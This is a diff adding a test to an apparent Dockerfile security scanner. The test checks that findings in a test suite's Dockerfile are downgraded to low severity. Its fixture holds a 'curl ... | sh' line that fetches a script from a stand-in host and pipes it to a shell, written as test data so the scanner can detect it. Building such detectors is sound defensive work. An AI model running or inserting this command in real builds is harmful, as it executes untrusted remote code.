@@ -79,3 +79,19 @@ def test_malformed_dockerfile_is_a_scan_error_and_other_files_still_scan(tmp_pat
     assert (error["kind"], error["line"]) == ("parse", 2)
     assert "heredoc" in error["message"]
     assert any(f["path"] == "good/Dockerfile" and f["rule_id"] == "MLC-DOCKER-IMAGE-001" for f in result["findings"])
+
+
+def test_a_test_suites_dockerfile_is_low_with_the_reason(
+    scan_repo: Callable[[Path], ScanResult], tmp_path: Path
+) -> None:
+    write_files(tmp_path, {"tests/integration/Dockerfile": "FROM python:latest\nRUN curl -s https://x.example | sh\n"})
+    found = sorted(
+        (f.rule_id, f.severity, dict(f.properties).get("severity_reason", "")[:19])
+        for f in scan_repo(tmp_path).findings
+        if f.rule_id.startswith("MLC-DOCKER")
+    )
+    assert found == [
+        ("MLC-DOCKER-CURLSH-001", "low", "a test suite's Dock"),
+        ("MLC-DOCKER-IMAGE-001", "low", "a test suite's Dock"),
+        ("MLC-DOCKER-USER-001", "low", "a test suite's Dock"),
+    ]
